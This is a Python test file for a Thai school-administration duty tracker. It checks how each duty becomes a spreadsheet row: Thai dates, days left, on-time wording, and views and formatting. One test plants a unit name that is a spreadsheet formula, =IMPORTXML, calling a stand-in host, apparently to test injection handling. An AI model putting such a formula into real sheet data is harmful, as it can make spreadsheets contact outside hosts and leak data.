"""งานทั้งหมด: what planners see of each duty, as tables."""

from dataclasses import replace
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from made_up_duties import E5, duty
from made_up_seen import NAMES, NOW, decided, rows, said, seen

from domain.clocks import BANGKOK
from domain.decisions import Decision
from domain.duties import State
from domain.evidence import Proof
from domain.sheet.all_duties import MOST_UNITS, all_duties


def test_a_duty_is_one_row_with_real_dates_and_thai_beside_them() -> None:
    its = {
        "lines": [said(1, "progress", "ได้ครึ่งทาง"), said(2, "note", "กดผิด", undone=True), said(3, "accept")],
        "proofs": {
            5: [
                Proof("https://drive.example/1", "", ""),
                Proof("", "ภาพ.jpg", "k1"),
                Proof("", "เก่า.pdf", ""),
            ]
        },
        "decisions": {
            5: [decided("accept", step_name="กลั่นกรอง"), decided("record", reference="M-1"), decided("record")]
        },
    }
    one = replace(E5, state=State.IN_PROGRESS, percent=50.0, value=82.5, problem="รอผลสอบ")
    (row,) = rows(all_duties(seen(one, **its)))
    assert row == {
        **{"รหัสแถว": "D000005", "ระบบ": "e-MES", "รอบ": "e-MES ปี 2567", "รหัส": "E5", "ชื่อรายการ": E5.name},
        **{"หน่วยงาน": "กลุ่มนิเทศ", "ผู้รับผิดชอบหลัก": NAMES[1], "ผู้ร่วมรับผิดชอบ": NAMES[2]},
        **{"สถานะ": "กำลังดำเนินการ", "ร้อยละ": 50.0, "ค่าที่รายงาน": 82.5, "วันที่เหลือ": 4, "ปัญหา": "รอผลสอบ"},
        **{"กำหนดเขต": date(2024, 9, 2), "กำหนดเขต (ข้อความ)": "2 ก.ย. 2567 (จ.)"},
        **{"กำหนดส่วนกลาง": date(2024, 9, 15), "กำหนดส่วนกลาง (ข้อความ)": "15 ก.ย. 2567 (อา.)"},
        **{"รายงานล่าสุด": "ได้ครึ่งทาง", "รายงานเมื่อ": date(2024, 8, 28)},
        **{"รายงานเมื่อ (ข้อความ)": "28 ส.ค. 2567 (พ.) 09.05 น.", "ลิงก์": "https://drive.example/1"},
        "ไฟล์": "ภาพ.jpg https://bot.example/files/k1/ภาพ.jpg\nเก่า.pdf (ยกเลิกลิงก์แล้ว)",
        **{
            "ผลการตรวจ": "ผ่านกลั่นกรอง โดย วรรณา แสงทอง เมื่อ 29 ส.ค. 2567 (พฤ.)",
            "เลขที่อ้างอิง": "M-1",
            "ทันกำหนด": "",
            "ทันกำหนดส่วนกลาง": "ทัน",
        },
    }


def test_new_duties_come_at_the_end_and_a_cancelled_one_stays_marked() -> None:
    gone = duty(6, "E6", state=State.CANCELLED)
    its = {"decisions": {6: [Decision(6, "cancel", 4, 1, reason="ซ้ำกับ E5", at=NOW)]}}
    tab = all_duties(seen(E5, gone, duty(9, "A1"), **its))
    assert [row[0] for row in tab.rows] == ["D000005", "D000006", "D000009"]
    cancelled = rows(tab)[1]
    assert (cancelled["สถานะ"], cancelled["วันที่เหลือ"]) == ("ยกเลิก", None)
    assert "ซ้ำกับ E5" in str(cancelled["ผลการตรวจ"])


@pytest.mark.parametrize(
    ("more", "left"),
    [
        ({}, 4),
        ({"office_on": date(2024, 8, 29)}, 0),
        ({"office_on": date(2024, 8, 20)}, -9),
        ({"office_on": date(2024, 9, 28)}, 30),
        ({"office_on": date(2024, 9, 29)}, None),
        ({"opens_on": date(2024, 8, 30)}, None),
        ({"state": State.SUBMITTED}, None),
        ({"state": State.DONE}, None),
        ({"state": State.RETURNED}, 4),
    ],
)
def test_days_are_counted_only_where_somebody_acts_on_them(more: dict[str, Any], left: int | None) -> None:
    assert rows(all_duties(seen(replace(E5, **more))))[0]["วันที่เหลือ"] == left


def test_the_next_morning_writes_only_what_is_near() -> None:
    far, near = duty(6, "E6", office_on=date(2025, 3, 3)), E5
    today, tomorrow = (all_duties(replace(seen(far, near), now=NOW + timedelta(days=n))) for n in (0, 1))
    assert today.rows[0] == tomorrow.rows[0]
    assert today.rows[1] != tomorrow.rows[1]


@pytest.mark.parametrize(
    ("first", "promised", "word"),
    [
        (None, None, ""),
        (datetime(2024, 9, 2, 23, 59, tzinfo=BANGKOK), None, "ทัน"),
        (datetime(2024, 9, 3, 0, 0, tzinfo=BANGKOK), None, "ไม่ทัน"),
        (datetime(2024, 9, 3, 0, 0, tzinfo=BANGKOK), date(2024, 9, 3), "ทัน"),
    ],
)
def test_on_time_in_words(first: datetime | None, promised: date | None, word: str) -> None:
    one = replace(E5, state=State.SUBMITTED, first_submitted_at=first, promised_on=promised)
    assert rows(all_duties(seen(one)))[0]["ทันกำหนด"] == word


def test_how_the_duties_look() -> None:
    other = duty(6, "E6", unit_id=2, unit_name="กลุ่มอำนวยการ")
    evil = duty(7, "E7", unit_id=3, unit_name='=IMPORTXML("http://evil.example","//a")')
    tab = all_duties(seen(E5, other, evil))
    views = {view.title: view for view in tab.looks.views}
    assert [*views] == ["ค้างส่ง", "เดือนนี้", "รายงานล่าสุดก่อน", "กลุ่มนิเทศ", "กลุ่มอำนวยการ"]
    days = tab.header.index("วันที่เหลือ")
    assert views["ค้างส่ง"].where[0].column == days and views["ค้างส่ง"].order == ((days, False),)
    assert tab.looks.formats[tab.header.index("กำหนดเขต")] == "d/m/yyyy"
    assert "เรียงเฉพาะบางคอลัมน์" in tab.looks.notes[0]
    assert {colour.column for colour in tab.looks.colours} == {tab.header.index("สถานะ"), days}
    assert set(tab.looks.widths) == set(range(len(tab.header))) and not tab.looks.typed
    whole = {tab.header[column] for column in tab.looks.wrapped}
    assert {"ชื่อรายการ", "หน่วยงาน", "รายงานล่าสุด", "ปัญหา", "ไฟล์"} <= whole and "รหัส" not in whole


def test_hundreds_of_schools_get_no_view_each() -> None:
    schools = [duty(n, "E1", unit_id=n, unit_name=f"โรงเรียนบ้าน{n}") for n in range(100, 101 + MOST_UNITS)]
    assert [view.title for view in all_duties(seen(E5, *schools)).looks.views[3:]] == ["กลุ่มนิเทศ"]
